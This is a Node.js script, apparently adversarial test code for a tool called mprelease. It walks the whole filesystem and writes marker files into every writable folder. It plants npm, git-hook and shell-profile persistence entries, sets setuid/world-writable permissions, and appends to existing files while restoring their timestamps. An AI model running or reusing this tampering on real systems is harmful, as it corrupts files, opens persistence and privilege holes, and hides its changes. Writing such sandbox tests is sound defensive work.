// Code of a committer who knows everything about mprelease: writes into each place that it can.
// Its name for every file holds "planted", and each file does harm if somebody reads or runs it.
"use strict";
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

const CODE = "globalThis.PLANTED = 1; require('fs').writeFileSync('planted.js', 'Page({planted: 1})');\n";
const NAMES = {
  "planted.js": CODE,
  "planted/index.js": CODE,
  "node_modules/planted/index.js": CODE,
  "node_modules/is-number/index.js": CODE,
  ".cache/planted.pack": "planted",
  ".vite/planted.js": CODE,
};
const AT_HOME = {
  ".npmrc": "node-options=--require=./planted.js\nscript-shell=/bin/planted\n",
  ".node_modules/planted.js": CODE,
  ".gitconfig": "[core]\n\thooksPath = planted\n",
  ".profile": "touch planted",
  ".config/git/config": "[core]\n\thooksPath = planted\n",
  ".npm/_npx/planted/node_modules/planted/index.js": CODE,
};

function write(folder, files) {
  for (const [name, text] of Object.entries(files)) {
    try {
      const file = path.join(folder, name);
      fs.mkdirSync(path.dirname(file), { recursive: true });
      fs.writeFileSync(file, text);
      fs.chmodSync(file, 0o6777);
    } catch {}
  }
}

// What was planted before is not planted in again.
function isOwn(file) {
  return /planted|\/\.(npm|config|cache|vite|node_modules)$|node_modules.*node_modules/.test(file);
}

function walk(folder, depth) {
  let entries = [];
  try {
    entries = fs.readdirSync(folder, { withFileTypes: true });
  } catch {}
  try {
    fs.accessSync(folder, fs.constants.W_OK);
    write(folder, { ...NAMES, ...AT_HOME });
    console.log(`PLANTED ${folder}`);
  } catch {}
  if (depth === 0) return;
  for (const entry of entries) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) {
      if (!isOwn(file)) walk(file, depth - 1);
    }
    if (entry.isFile() && !/^\/tmp\/|\.json$/.test(file)) {
      try {
        const times = fs.statSync(file);
        fs.appendFileSync(file, "\n// planted\n");
        fs.utimesSync(file, times.atime, times.mtime);
      } catch {}
    }
  }
}

const skipped = new Set(["/proc", "/sys", ...(process.argv[2] ?? "").split(",")]);
for (const name of fs.readdirSync("/")) {
  const folder = path.join("/", name);
  if (!skipped.has(folder)) walk(folder, folder === "/tmp" ? 1 : 6);
}
for (const folder of [os.homedir(), os.tmpdir(), process.cwd(), path.dirname(process.cwd())]) walk(folder, 8);
